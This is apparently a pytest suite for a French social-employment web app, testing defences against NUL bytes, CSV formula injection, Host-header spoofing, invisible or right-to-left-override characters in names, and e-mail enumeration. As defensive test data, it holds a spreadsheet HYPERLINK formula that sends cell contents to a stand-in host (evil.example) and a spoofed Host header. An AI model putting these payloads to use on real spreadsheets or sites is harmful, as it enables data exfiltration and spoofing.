"""Smaller hardening (issue 13, item 15): NUL bytes, CSV formulas, HEAD, Open Badges ids, names, e-mail privacy."""
from __future__ import annotations

import io
import os
from datetime import date, timedelta

import pytest
from sqlmodel import select

from tests.conftest import csrf_token, post
from webapp.domain.alerts import alerts as alerts_service
from webapp.domain.employees.names import NameRefused, clean_person_name
from webapp.domain.skills import attestations
from webapp.domain.skills import skills as skills_service
from webapp.models import (
    AlertRecipient,
    AuditEvent,
    Employee,
    PushSubscription,
    Skill,
    SkillFramework,
    User,
)
from webapp.platform.db import writing

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1;"Voir")'


# --- NUL bytes ------------------------------------------------------------------------------------------------


def test_nul_in_a_json_body_is_refused_with_400(client, login_as, db):
    login_as("counsellor")
    payload = {"endpoint": "https://fcm.googleapis.com/fcm/send/abc",
               "keys": {"p256dh": "B" * 40 + "\x00" + "B" * 40, "auth": "a" * 22}}
    response = client.post("/alertes/abonnements", json=payload, headers={"X-CSRFToken": csrf_token(client)})
    assert response.status_code == 400
    assert db.exec(select(PushSubscription)).all() == []


def test_nul_in_a_csv_import_is_refused_in_french(client, login_as, make, structure, db):
    make.worksite(structure)
    login_as("director")
    client.get("/competences/referentiels")
    framework = db.exec(select(SkillFramework).where(SkillFramework.sector == "Espaces verts")).one()
    before = skills_service.export_csv(db, framework)
    poisoned = before.replace("Porter les EPI", "Porter\x00 les EPI")
    response = post(client, f"/competences/referentiels/{framework.id}/import",
                    {"file": (io.BytesIO(poisoned.encode()), "ref.csv")}, content_type="multipart/form-data")
    assert response.status_code == 422
    assert "caractères nuls" in response.get_data(as_text=True)
    db.rollback()
    assert skills_service.export_csv(db, framework) == before


# --- CSV formulas -----------------------------------------------------------------------------------------------


def test_csv_export_keeps_formulas_as_text_and_the_import_reads_them_back(db, make, structure):
    make.worksite(structure)
    with writing():
        skills_service.ensure_frameworks(db, structure.id)
        framework = db.exec(select(SkillFramework).where(SkillFramework.sector == "Espaces verts")).one()
        skills_service.add_skill(db, framework=framework, activity_name="+Taille", label=FORMULA, code="EV-99")
        db.commit()
    exported = skills_service.export_csv(db, framework)
    line = next(row for row in exported.splitlines() if "EV-99" in row)
    assert line.startswith("'+Taille,") and ",\"'=HYPERLINK(" in line
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in exported.splitlines() for cell in row.split(","))
    with writing():
        counts = skills_service.import_csv(db, framework=framework, text=exported)
        db.commit()
    assert counts["revised"] == counts["added"] == counts["retired"] == 0
    assert db.exec(select(Skill).where(Skill.code == "EV-99")).one().label == FORMULA


# --- HEAD -------------------------------------------------------------------------------------------------------


def test_head_on_an_alert_neither_traces_a_read_nor_marks_it_seen(client, login_as, make, structure, users, db):
    employee = make.employee(structure, referent_cip_id=users["counsellor"].id)
    with writing():
        alert, _ = alerts_service.raise_alert(db=db, raiser=users["supervisor"], employee_id=employee.id,
                                              type_code="logement", facts="", client_key=os.urandom(8).hex())
        db.commit()
    login_as("counsellor")
    assert client.head(f"/alertes/{alert.id}").status_code == 200

    def reads():
        db.rollback()
        return db.exec(select(AuditEvent).where(AuditEvent.action == "alert.read")).all()

    def seen():
        return db.exec(select(AlertRecipient.seen_at).where(AlertRecipient.user_id == users["counsellor"].id)).one()

    assert reads() == [] and seen() is None
    assert client.get(f"/alertes/{alert.id}").status_code == 200
    assert len(reads()) == 1 and seen() is not None


# --- Open Badges ------------------------------------------------------------------------------------------------


def test_open_badge_ids_come_from_the_configured_address_not_the_host_header(app, client, login_as, make,
                                                                             structure, users, db):
    app.config["TERRAIN_BASE_URL"] = "https://terrain.structure.example"
    make.worksite(structure)
    employee = make.employee(structure)
    with writing():
        skills_service.ensure_frameworks(db, structure.id)
        skill = db.exec(select(Skill).where(Skill.code == "EV-04", Skill.active.is_(True))).one()
        skills_service.record_rating(db, employee=employee, skill=skill, level=3, user=users["supervisor"])
        attestation = attestations.issue(db, employee=employee, user=users["supervisor"])
        db.commit()
    login_as("counsellor")
    client.set_cookie("terrain_session", client.get_cookie("terrain_session").value, domain="evil.example")
    badge = client.get(f"/attestations/{attestation.id}/openbadge.json", headers={"Host": "evil.example"})
    text = badge.get_data(as_text=True)
    assert badge.status_code == 200 and "evil.example" not in text
    assert badge.get_json()["credentialSubject"]["achievement"]["id"].startswith("https://terrain.structure.example/")


# --- names ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("typed", ["\u202eenoK", "\u200b\u200b", "Ami\u200bna", "\u2066Amina\u2069", "Amina\x07",
                                   "   ", "\u00ad", "12"])
def test_hidden_or_letterless_names_are_refused(typed):
    with pytest.raises(NameRefused):
        clean_person_name(typed)


@pytest.mark.parametrize("typed,kept", [
    ("Zoe\u0301", "Zoé"), ("  Jean-Luc   N'Diaye ", "Jean-Luc N'Diaye"), ("مهر\u200cناز", "مهر\u200cناز"),
    ("Nguyễn", "Nguyễn"), ("王", "王"),
])
def test_names_are_normalised_and_real_names_kept(typed, kept):
    assert clean_person_name(typed) == kept


def employee_form(**overrides):
    start = date.today() - timedelta(days=10)
    data = {"first_name": "Aïcha", "last_name": "Diallo", "phone": "", "email": "", "worksite_id": "",
            "referent_cip_id": "", "referent_eti_id": "", "pass_iae_number": "", "pass_iae_end": "",
            "job_title": "", "start_date": start.isoformat(), "end_date": (start + timedelta(days=182)).isoformat(),
            "weekly_hours": "26"}
    data.update(overrides)
    return data


def test_employee_form_refuses_an_rtl_override_and_stores_nfc(client, login_as, db):
    login_as("counsellor")
    refused = post(client, "/salaries/nouveau", employee_form(last_name="\u202eenoK"))
    assert refused.status_code == 422 and "caractère invisible" in refused.get_data(as_text=True)
    refused = post(client, "/salaries/nouveau", employee_form(first_name="\u200b\u200b\u200b"))
    assert refused.status_code == 422
    assert db.exec(select(Employee)).all() == []
    assert post(client, "/salaries/nouveau", employee_form(first_name="Zoe\u0301")).status_code == 303
    db.rollback()
    assert db.exec(select(Employee)).one().first_name == "Zoé"


# --- e-mail of an account elsewhere ------------------------------------------------------------------------------


def account_form(email: str) -> dict:
    return {"full_name": "Nouvelle Personne", "email": email, "role": "supervisor",
            "password": "une longue phrase de passe"}


def test_director_is_not_told_that_an_address_has_an_account_in_another_structure(client, login_as, make, db):
    elsewhere = make.user("supervisor", make.structure("Autre structure"), email="claire@autre.example")
    login_as("director")
    body = post(client, "/comptes/nouveau", account_form(elsewhere.email)).get_data(as_text=True)
    assert "ne peut pas être utilisée" in body
    assert "Un compte utilise déjà" not in body and "Autre structure" not in body
    assert len(db.exec(select(User).where(User.email == elsewhere.email)).all()) == 1


def test_director_is_told_plainly_about_an_account_of_the_structure(client, login_as, users):
    login_as("director")
    body = post(client, "/comptes/nouveau", account_form(users["supervisor"].email)).get_data(as_text=True)
    assert "Un compte utilise déjà cette adresse e-mail." in body
